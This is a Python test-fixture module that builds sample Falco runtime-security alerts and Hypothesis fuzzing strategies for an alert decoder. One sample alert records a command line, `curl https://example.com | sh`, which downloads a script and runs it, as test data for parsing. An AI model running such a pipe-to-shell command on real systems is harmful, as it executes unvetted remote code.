"""Alerts as Falco may post them, and the same as the sinks get them."""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

from hypothesis import strategies as st

from sidekick import document
from sidekick.model import Assessment, Envelope
from sidekick.sources.falco import decode

UUID = "0190d8a0-0000-7000-8000-000000000001"
RECEIVED_NS = 1_767_349_230_600_000_000
ALERT: dict[str, Any] = {
    "output": "10:20:30.5: Notice A shell <spawned> & ran (user=root)",
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "time": "2026-01-02T10:20:30.500000000Z",
    "output_fields": {
        "proc.name": "bash",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "cart-1",
        "evt.time": 1767349230500000000,
        "proc.aname[2]": 'a "quoted" one',
        "user.loginuid": -1,
        "container.id": None,
        "proc.cmdline": "bash -c 'curl https://example.com | sh'",
        "fd.list": [1, {"b": 1.50, "a": "<"}],
    },
    "source": "syscall",
    "tags": ["shell", "container"],
    "hostname": "node-1",
}
"""An alert with values of every kind."""

PLAIN = ALERT | {
    "output_fields": {"a": "<b>", "evt.time": 1767349230500000001, "user.loginuid": -1, "z": None},
    "time": "2026-01-02T10:20:30.123456789Z",
}
"""One as Falco writes it."""


def envelope(body: bytes) -> Envelope:
    """What a sink gets of a request's body; raises ``InvalidAlert``."""
    alert = decode(body)
    written = document.write(UUID, alert, Assessment(fingerprint="f"))
    return Envelope(7, UUID, alert.priority, alert.time_ns, "f", written, RECEIVED_NS, alert.plain)


def sent(**changes: Any) -> Envelope:
    """``ALERT`` with these members."""
    return envelope(json.dumps(ALERT | changes).encode())


def plain(**changes: Any) -> Envelope:
    """``ALERT`` with these members as Falco writes it."""
    return envelope(_compact(PLAIN | changes))


def _compact(alert: dict[str, Any]) -> bytes:
    text = json.dumps(alert, ensure_ascii=False, separators=(",", ":"), sort_keys=True)
    return text.encode("utf-8", "surrogatepass")


_TEXT = st.text(max_size=12) | st.sampled_from(
    [
        "<b>&",
        "\u2028\u2029",
        "\x00\x08\x0c\x1f\x7f",
        "\\u003c\\",
        "é" * 300,
        "x" * 700,
        "🐚" * 140,
        "§a",
    ]
)
_NUMBER = st.integers() | st.floats(allow_nan=False, allow_infinity=False)
_VALUE = st.recursive(
    st.none() | st.booleans() | _NUMBER | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=6,
)
_NAME = _TEXT | st.sampled_from(
    ["proc.name", "k8s.ns.name", "k8s.pod.name", "proc.aname[2]", "evt.time", "n_drops", "a__b."]
)
_DROPS = st.sampled_from([0, 1, 5, "7", 11, 101, 10**4 + 1, 2**70, 1.5, "x", -3, None])
_ZONE = st.sampled_from(["Z", "+00:00", "-00:00", "+02:00", "-11:30"])
_TIME = st.builds(
    lambda when, digits, zone: f"{when:%Y-%m-%dT%H:%M:%S}{digits}{zone}",
    st.datetimes(datetime(1700, 1, 1), datetime(2260, 1, 1)),  # whose nanoseconds Go can count
    st.sampled_from(["", ".0", ".5", ".123456789", ".100000000", ".123456789123", ".000000001"]),
    _ZONE,
)
_ALERTS = st.fixed_dictionaries(
    {
        "output": _TEXT | st.lists(_TEXT, max_size=6).map(" ".join),
        "priority": st.sampled_from(
            ["Emergency", "alert", "CRITICAL", "Error", "Warning", "notice", "info", "Debug"]
        ),
        "rule": st.text(min_size=1, max_size=12),
        "time": _TIME,
        "output_fields": st.builds(
            lambda fields, drops: fields | drops,
            st.dictionaries(_NAME, _VALUE, max_size=8),
            st.dictionaries(st.sampled_from(["n_drops", "n_drops_buffer"]), _DROPS, max_size=2),
        ),
    },
    optional={
        "source": _TEXT,
        "hostname": _TEXT,
        "tags": st.lists(_TEXT, max_size=2),
        "unknown": _VALUE,
        "Output_Fields": st.dictionaries(_NAME, _VALUE, max_size=2),
    },
)


def plain_bodies() -> st.SearchStrategy[bytes]:
    """Requests with an alert as Falco writes it, but for what is in its texts."""
    fields = st.dictionaries(_NAME, st.none() | st.booleans() | _NUMBER | _TEXT, max_size=8)
    some = {"output": _TEXT, "rule": _TEXT.filter(bool), "time": _TIME, "output_fields": fields}
    more = {"hostname": _TEXT, "tags": st.lists(_TEXT, max_size=2), "source": _TEXT}
    return st.fixed_dictionaries(some, optional=more).map(lambda drawn: _compact(PLAIN | drawn))


@st.composite
def bodies(draw: st.DrawFn) -> bytes:
    """Requests with an alert, written in every way that JSON allows."""
    text = json.dumps(
        draw(_ALERTS),
        ensure_ascii=draw(st.booleans()),
        separators=draw(st.sampled_from([(",", ":"), (", ", " : ")])),
    )
    broken = draw(st.sampled_from([b"\xe2\x82", b"\xff", b"\xf0\x9f\x90", b"\xc0\xaf"]))
    return text.encode("utf-8", "surrogatepass").replace("§".encode(), broken)
